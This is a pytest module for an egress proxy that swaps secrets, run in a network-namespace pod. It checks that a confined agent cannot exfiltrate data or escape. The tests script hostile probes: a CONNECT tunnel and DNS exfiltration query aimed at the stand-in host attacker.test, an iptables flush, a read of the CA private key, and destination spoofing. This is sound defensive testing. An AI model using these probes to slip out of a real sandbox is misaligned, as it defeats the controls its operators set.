"""Transparent mode as in a pod: the proxy and a non-root agent share a network namespace whose
iptables/ip6tables REDIRECT ports 80/443 of every UID but the proxy's to the proxy; the upstreams
live in another namespace behind a veth. The agent uses no proxy settings at all.

The proxy runs as root (UID 0, the excluded UID) because this machine's Python lives under root's
0700 home; the agent runs as UID 1000 via setpriv.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import OPENAI, needs_root, secret_env
from tests.support.netns import ATTACKER_V4, ECHO_V4, UP_V4, UP_V6, Pod, world_readable_dir
from tests.support.proxyproc import ProxyProcess

pytestmark = needs_root

AGENT_UID = 1000
PROXY_PORT = 15001
POLICY = f"""
apiVersion: sandgate.dev/v1alpha1
kind: EgressPolicy
metadata: {{name: pod}}
spec:
  allow:
    - host: api.openai.com
    - host: echo.example.com
  secrets:
    - name: openai
      placeholder: {OPENAI.placeholder}
      source: {{env: {OPENAI.env}}}
      hosts: [api.openai.com]
"""


class NetnsProxy(ProxyProcess):
    pod: Pod

    def metrics(self) -> str:
        out = self.pod.run("curl", "-sS", f"http://127.0.0.1:{self.metrics_port}/metrics")
        return out.stdout.decode()


class World:
    def __init__(self, pod: Pod, proxy: NetnsProxy, records: Path) -> None:
        self.pod, self.proxy, self.records = pod, proxy, records

    def seen(self, name: str) -> list[dict[str, object]]:
        path = self.records / f"{name}.jsonl"
        return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []

    def seen_api(self) -> list[dict[str, object]]:
        """api.openai.com has an IPv4 and an IPv6 upstream: the proxy dials whichever it resolved first."""
        return self.seen("api") + self.seen("api6")

    def count(self, name: str) -> int:
        path = self.records / f"{name}.count"
        return len(path.read_text().splitlines()) if path.exists() else 0

    def agent(self, *cmd: str, timeout: float = 20) -> subprocess.CompletedProcess[bytes]:
        return self.pod.run(*cmd, uid=AGENT_UID, check=False, timeout=timeout)

    def curl(self, url: str, *args: str) -> tuple[int, str, dict[str, str]]:
        out = self.agent(
            "curl",
            "-sS",
            "--connect-timeout",
            "3",
            "--max-time",
            "10",
            "--cacert",
            str(self.proxy.ca),
            "-D",
            "-",
            *args,
            url,
        )
        text = out.stdout.decode(errors="replace")
        if not text.startswith("HTTP/"):
            return 0, out.stderr.decode(errors="replace"), {}
        head, _, body = text.partition("\r\n\r\n")
        lines = head.split("\r\n")
        headers = {k.lower(): v.strip() for k, _, v in (ln.partition(":") for ln in lines[1:])}
        return int(lines[0].split()[1]), body, headers


@pytest.fixture(scope="module")
def world(pki: dict[str, Path]) -> Iterator[World]:
    hosts = {"api.openai.com": [UP_V4, UP_V6], "echo.example.com": [ECHO_V4], "attacker.test": [ATTACKER_V4]}
    pod = Pod(proxy_uid=0, proxy_port=PROXY_PORT, hosts=hosts)
    records = world_readable_dir("sandgate-records-")
    upstream = proxy = workdir = None
    try:
        upstream = subprocess.Popen(
            [*pod.prefix_up(), sys.executable, "-m", "tests.support.upstream", str(pki["server"]), str(records),
             f"https:api@{UP_V4}:443", f"https:api6@[{UP_V6}]:443", f"https:echo@{ECHO_V4}:443",
             f"https:attacker@{ATTACKER_V4}:443", f"tcp:direct8443@{UP_V4}:8443", f"tcp:ssh@{UP_V4}:22",
             f"tcp:direct6@[{UP_V6}]:8443", f"udp:udp@{UP_V4}:5353", f"udp:dns@{UP_V4}:53", f"tcp:dnstcp@{UP_V4}:53", f"tcp:sidecar@{ECHO_V4}:{PROXY_PORT}"],
            stdout=subprocess.PIPE, cwd=Path(__file__).parents[2],
        )  # fmt: skip
        assert upstream.stdout is not None and upstream.stdout.readline().startswith(b"upstreams ready")
        workdir = world_readable_dir("sandgate-pod-")
        policy = workdir / "policy.yaml"
        policy.write_text(POLICY)
        NetnsProxy.pod = pod
        proxy = NetnsProxy(
            policy, workdir, secret_env(), mode="transparent", listen_port=PROXY_PORT, prefix=["ip", "netns", "exec", pod.agent],
            extra=["--upstream-ca", str(pki["ca"]), "--allow-private", "198.18.0.0/15", "--allow-private", "2001:2::/48"],
        )  # fmt: skip
        yield World(pod, proxy, records)
    finally:
        if proxy is not None:
            proxy.stop()
        if upstream is not None:
            upstream.terminate()
            upstream.wait(10)
        pod.close()
        for d in (records, workdir):
            if d is not None:
                shutil.rmtree(d, ignore_errors=True)


def test_a_non_root_agent_without_proxy_settings_gets_the_swap(world: World) -> None:
    status, body, _ = world.curl(
        "https://api.openai.com/v1/models", "-H", f"Authorization: Bearer {OPENAI.placeholder}"
    )
    assert status == 200, body
    assert world.seen_api()[-1]["headers"]["authorization"] == f"Bearer {OPENAI.real}"  # type: ignore[index]
    assert OPENAI.real not in body


def test_c02_ipv6_is_captured_and_swapped_too(world: World) -> None:
    status, err, _ = world.curl(
        "https://api.openai.com/v1/v6", "-6", "-H", f"Authorization: Bearer {OPENAI.placeholder}"
    )
    assert status == 200, err
    # The proxy dials its own resolution of the name, so the request may reach either family.
    got = [r for r in world.seen_api() if r["path"] == "/v1/v6"]
    assert got and got[-1]["headers"]["authorization"] == f"Bearer {OPENAI.real}"  # type: ignore[index]


def test_b01_unbound_host_is_refused_in_transparent_mode(world: World) -> None:
    status, _, headers = world.curl("https://echo.example.com/x", "-H", f"Authorization: Bearer {OPENAI.placeholder}")
    assert status == 403 and headers["x-sandgate-reason"] == "secret_not_bound"
    assert world.seen("echo") == []


def test_b05_the_original_destination_is_not_trusted(world: World) -> None:
    """The agent dials the attacker's IP but says api.openai.com: the proxy dials api.openai.com's
    own address; the attacker's server never gets a byte of HTTP."""
    status, _, _ = world.curl("https://api.openai.com/v1/spoof", "--resolve", f"api.openai.com:443:{ATTACKER_V4}",
                              "-H", f"Authorization: Bearer {OPENAI.placeholder}")  # fmt: skip
    assert status == 200
    assert world.seen("attacker") == []
    assert world.seen_api()[-1]["path"] == "/v1/spoof"


def test_a11_sni_and_host_must_agree(world: World) -> None:
    status, _, headers = world.curl("https://api.openai.com/", "-H", "Host: echo.example.com")
    assert status == 403 and headers["x-sandgate-reason"] == "authority_mismatch"


def test_a16_one_connection_serves_one_authority(world: World) -> None:
    """Two pipelined requests on one TLS connection to echo.example.com: the first is served, the
    second, for another host, is refused (it never reaches api.openai.com)."""
    script = (
        "import socket, ssl\n"
        f"ctx=ssl.create_default_context(cafile='{world.proxy.ca}')\n"
        "s=ctx.wrap_socket(socket.create_connection(('echo.example.com',443),timeout=5),server_hostname='echo.example.com')\n"
        "s.sendall(b'GET /a16-first HTTP/1.1\\r\\nHost: echo.example.com\\r\\n\\r\\n'\n"
        "          b'GET /a16-second HTTP/1.1\\r\\nHost: api.openai.com\\r\\nConnection: close\\r\\n\\r\\n')\n"
        "data=b''\n"
        "while (c:=s.recv(65536)): data+=c\n"
        "print(data.decode(errors='replace'))\n"
    )
    out = world.agent("/usr/bin/python3", "-c", script).stdout.decode()
    assert out.startswith("HTTP/1.1 200") and "authority_mismatch" in out
    assert all(r["path"] != "/a16-second" for r in world.seen_api())


def test_c01_other_ports_and_protocols_get_nowhere(world: World) -> None:
    for url in (f"https://{UP_V4}:8443/", f"https://[{UP_V6}]:8443/"):
        assert world.curl(url)[0] == 0
    probe = (
        "import socket\n"
        f"for addr in [('{UP_V4}', 22), ('{UP_V4}', 8443)]:\n"
        "    try: socket.create_connection(addr, timeout=2); print('CONNECTED')\n"
        "    except OSError: pass\n"
    )
    assert "CONNECTED" not in world.agent("/usr/bin/python3", "-c", probe).stdout.decode()
    assert world.count("direct8443") == world.count("ssh") == world.count("direct6") == 0


def test_c03_udp_is_dropped(world: World) -> None:
    send = f"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); [s.sendto(b'x', ('{UP_V4}', 5353)) for _ in range(5)]"
    world.agent("/usr/bin/python3", "-c", send)
    time.sleep(0.5)
    assert world.count("udp") == 0


def test_c04_dns_to_any_resolver_but_the_pods_gets_nowhere(world: World) -> None:
    query = bytes.fromhex("abcd01000001000000000000") + b"\x06secret\x08attacker\x04test\x00\x00\x01\x00\x01"
    script = (
        "import socket\n"
        f"u=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto({query!r}, ('{UP_V4}', 53))\n"
        f"try: socket.create_connection(('{UP_V4}', 53), timeout=2)\n"
        "except OSError: pass\n"
    )
    world.agent("/usr/bin/python3", "-c", script)
    time.sleep(0.5)
    assert world.count("dns") == world.count("dnstcp") == 0


def test_c17_explicit_use_of_the_transparent_listener_is_no_tunnel(world: World) -> None:
    script = (
        "import socket\n"
        f"s=socket.create_connection(('127.0.0.1', {PROXY_PORT}), timeout=5)\n"
        "s.sendall(b'CONNECT attacker.test:443 HTTP/1.1\\r\\nHost: attacker.test:443\\r\\n\\r\\n')\n"
        "print(s.recv(200).decode(errors='replace'))\n"
    )
    out = world.agent("/usr/bin/python3", "-c", script).stdout.decode()
    assert not out.startswith("HTTP/1.1 200")
    assert world.seen("attacker") == []


def test_c08_the_agent_has_no_raw_sockets(world: World) -> None:
    out = world.agent(
        "/usr/bin/python3", "-c", "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)"
    )
    assert out.returncode != 0 and b"PermissionError" in out.stderr


def test_c09_the_agent_cannot_change_the_rules(world: World) -> None:
    save = "iptables-legacy-save" if shutil.which("iptables-legacy-save") else "iptables-save"

    def rules() -> list[bytes]:  # without the "# Generated ... <time>" comments and the counters
        return [re.sub(rb"\[\d+:\d+\]", b"", ln) for ln in world.pod.run(save).stdout.splitlines()
                if not ln.startswith(b"#")]  # fmt: skip

    before = rules()
    assert any(b"REDIRECT" in ln for ln in before)
    for tool in ("iptables", "iptables-legacy", "ip6tables"):
        if shutil.which(tool):
            assert world.agent(tool, "-t", "nat", "-F").returncode != 0
    assert rules() == before


def test_c12_the_sidecar_is_not_reachable_from_outside_the_pod(world: World) -> None:
    probe = subprocess.run([*world.pod.prefix_up(), sys.executable, "-c",
                            f"import socket; socket.create_connection(('198.18.0.1', {PROXY_PORT}), timeout=2)"],
                           capture_output=True, check=False)  # fmt: skip
    assert probe.returncode != 0


def test_c16_the_agent_reads_the_ca_certificate_but_not_the_key(world: World) -> None:
    assert world.agent("cat", str(world.proxy.ca)).returncode == 0
    key = world.agent("cat", str(world.proxy.confdir / "ca-key.pem"))
    assert key.returncode != 0 and b"Permission denied" in key.stderr


def test_non_http_bytes_on_a_captured_port_are_closed_not_forwarded(world: World) -> None:
    script = (
        "import socket\n"
        f"s=socket.create_connection(('{UP_V4}',443),timeout=5)\n"
        "s.sendall(b'SSH-2.0-OpenSSH\\r\\n\\r\\n')\n"
        "print(repr(s.recv(100)))\n"
    )
    world.agent("/usr/bin/python3", "-c", script)
    assert world.count("ssh") == 0 and all(r["method"] != "SSH-2.0-OpenSSH" for r in world.seen_api())


def test_c15_when_the_proxy_is_down_nothing_gets_out(world: World) -> None:
    """Last in this module: it stops the proxy. REDIRECT to a closed port fails closed."""
    before = len(world.seen_api())
    world.proxy.stop()
    status, err, _ = world.curl("https://api.openai.com/v1/x", "-H", f"Authorization: Bearer {OPENAI.placeholder}")
    assert status == 0 and ("refused" in err.lower() or "failed to connect" in err.lower())
    assert len(world.seen_api()) == before
